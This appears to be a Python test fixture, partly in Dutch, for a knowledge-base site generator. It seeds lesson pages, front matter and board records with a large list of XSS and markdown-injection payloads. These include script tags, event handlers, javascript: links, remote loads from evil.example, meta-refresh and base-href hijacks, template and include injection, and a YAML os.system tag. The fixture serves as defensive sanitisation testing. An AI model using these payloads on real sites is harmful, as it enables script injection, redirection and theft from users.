"""What people who mean harm would type into a page, and a knowledge base that holds it in every place it can come."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import timedelta
from typing import Any

from ospo_automation.core.casus.assessing import assess
from ospo_automation.core.casus.course import Advice, Course
from ospo_automation.core.github.person import Person
from ospo_automation.core.network.labels import Status
from ospo_automation.core.outgoing.safe import Safe
from ospo_automation.core.sight.for_site import CasusRecord
from ospo_automation.core.sight.lesson_draft import drafted
from ospo_automation.core.sight.scene import Scene
from ospo_automation.texts import render
from tests.given import OSPO_YML, body, checkout, comment, issue
from tests.site.knowledge import ADDRESS, TODAY, lesson, record

EVIL = "https://evil.example"
LINES = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt >",
    "<script src=//evil.example/x.js></script>",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<img/src/onerror=alert(1)>",
    f"<img src={EVIL}/p.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    f"<style>@import '{EVIL}/x.css'; body {{ background: url({EVIL}/b.png) }}</style>",
    f"<p style='background:url({EVIL}/c.png)'>x</p>",
    f"<link rel=stylesheet href={EVIL}/y.css>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}/><input name=q autofocus onfocus=alert(1)><button>Verstuur</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video poster=https://evil.example/v.png><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay onerror=alert(1)>",
    "<a href=javascript:alert(1)>klik</a>",
    "<a href='java&#115;cript:alert(1)'>klik</a>",
    "[klik](javascript:alert(1))",
    "[klik](JaVaScRiPt:alert(1))",
    "[klik](java&Tab;script&colon;alert(1))",
    "[klik](<java\tscript:alert(1)>)",
    "[klik](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[klik]( data:text/html,<script>alert(1)</script>)",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](vbscript:msgbox(1))",
    "[klik](https://x.example/\" onmouseover=\"alert(1))",
    "[klik](https://x.example/ '\" onmouseover=alert(1) x=\"')",
    "![p](https://evil.example/q.png)",
    "![p](javascript:alert(1))",
    "![p](x\"onerror=\"alert(1))",
    "[x]: javascript:alert(1)\n[x]",
    "[![p](https://evil.example/r.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<https://x.example/\"onmouseover=\"alert(1)>",
    "https://x.example/?a=<script>alert(1)</script>",
    "{{ config.plugins }} {% raw %} {{ 7*7 }} {% include 'x' %} {# x #}",
    "Tekst {: onclick=alert(1) style='background:url(//evil.example/d.png)' }",
    "**vet**{: onmouseover=alert(1) }",
    "# Kop {: onclick=alert(1) data-toc-label='<script>alert(1)</script>' }",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "--> <script>alert(1)</script> <!--ospo-->",
    "<!--ospo--><script>alert(1)</script><!--/ospo-->",
    "</article></main></body></html><script>alert(1)</script>",
    "</title></head><body onload=alert(1)>",
    '--8<-- "../.github/ospo.yml"',
    ";--8<-- \"https://evil.example/s.md\"",
    ":smile: :x\" onerror=\"alert(1):",
    "```html\n<script>alert(1)</script>\n```",
    "~~~ {: onload=alert(1) }\n<script>alert(1)</script>\n~~~",
    "```mermaid\ngraph TD; A-->B\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | [k](javascript:alert(1)) |",
    "- <img src=x onerror=alert(1)>\n- [k](javascript:alert(1))",
    "> <script>alert(1)</script>",
    "*[x]: <script>alert(1)</script>\nx",
    "[^1]: <script>alert(1)</script>\n\nVoet[^1]",
    "!!! note \"<script>alert(1)</script>\"\n    <script>alert(1)</script>",
    "<div markdown=1 onclick=alert(1)>*x*</div>",
    "<div id=__config>{\"base\": \"https://evil.example\", \"features\": [\"x\"], \"search\": \"https://evil.example/w.js\"}</div>",
    "---\ntitle: Nee\ntemplate: main.html\n---",
    "title: '</title><script>alert(1)</script>'\n===",
    "\x00<script>alert(1)</script>\u202e\ufeff<\u200bscript>alert(1)</script>",
    "<a\x0chref=javascript:alert(1)>k</a> <a href=\"\x01javascript:alert(1)\">k</a>",
)  # fmt: skip
VALUES = (
    "</title></head><script>alert(1)</script>",
    f'0;url={EVIL}/weg" http-equiv="refresh',
    "'enkel' \\ \"dubbel\": - # {x} [y] & &lt;b&gt; !!python/object:os.system --- *anker | > %",
)
"""For the lines at the top of a page."""
LONGEST_DESCRIPTION = 160
ANOTHER = "Een les die iemand van buiten als bestand heeft ingestuurd, met van alles erin dat er niet hoort."


def casus_page(number: int, lines: Sequence[str], title: str) -> tuple[str, str]:
    """A draft from a casus of which every answer and the advice is hostile: its file and its text."""
    place = checkout(OSPO_YML)
    parts = ["\n\n".join(lines[start::4]) for start in range(4)]
    typed = body(situation=parts[0], question=parts[1])
    carla = Person("carla", 44)
    there = replace(issue(number, text=typed, title=title[:256]), assignees=("carla",))
    advice = comment(f"/advies {parts[2]}", carla, id_=60)
    view = comment(parts[3], carla, id_=61)
    casus = assess(there, [advice, view], place.form, place.network)
    assert casus is not None
    course = Course(advice=(Advice("carla", 60),), outcome="helped")
    values: dict[str, Any] = {
        **drafted(Scene(place, casus, (advice, view), TODAY, course=course), TODAY),
        "licence": "CC-BY-4.0",
        "review": TODAY + timedelta(days=500),
        "link": "",
        "site": Safe(ADDRESS),
    }
    values["description"] = values["description"].ljust(70, ".")
    return f"docs/lessen/2026/{number}-kwaad.md", render("nl", "pages/lesson", values)


def _spread(lines: Sequence[str], pages: int) -> list[Sequence[str]]:
    return [lines[start::pages] for start in range(pages)]


def _front(**said: str) -> str:
    return "---\n" + "".join(f"{key}: {json.dumps(value)}\n" for key, value in said.items()) + "---\n\n"


def pages() -> Mapping[str, str]:
    """Pages that came from casussen, and others whose whole file an outsider wrote."""
    found = dict(casus_page(900 + index, lines, VALUES[index]) for index, lines in enumerate(_spread(LINES, 2)))
    for index, lines in enumerate(_spread(LINES, 2)):
        # What stands in HTML that isn't closed takes the rest with it: hence the ends of elements between them.
        text = "\n\n</div></svg></math></style></iframe></object></video>\n\n".join(lines)
        found[f"docs/lessen/2026/{950 + index}-rauw.md"] = lesson(
            "Een les van een ander?", f"{text}\n\n", description=f'"{ANOTHER}"'
        )
    for index, value in enumerate(VALUES):
        words = f"{value} " + "en dan nog wat woorden om lang genoeg te zijn voor een zoekmachine die dit leest"
        found[f"docs/bijeenkomsten/kwaad-{index}.md"] = (
            _front(title=value, date="2026-02-02", description=words[:LONGEST_DESCRIPTION], place=value)
            + f"# Bijeenkomst {index}\n\nWe spraken elkaar.\n"
        )
        said = {"name": value, "organisation": value, "role": value}
        found[f"docs/experts/kwaad-{index}.md"] = _front(**said) + "Ik help.\n\n" + LINES[index]
    return found


def records() -> Sequence[CasusRecord]:
    """A casus on the board for each line, in turn in each column."""
    statuses = list(Status)
    titles = [" ".join(line.split())[:256] for line in LINES]
    return [record(1_000 + at, title, status=statuses[at % len(statuses)]) for at, title in enumerate(titles)]
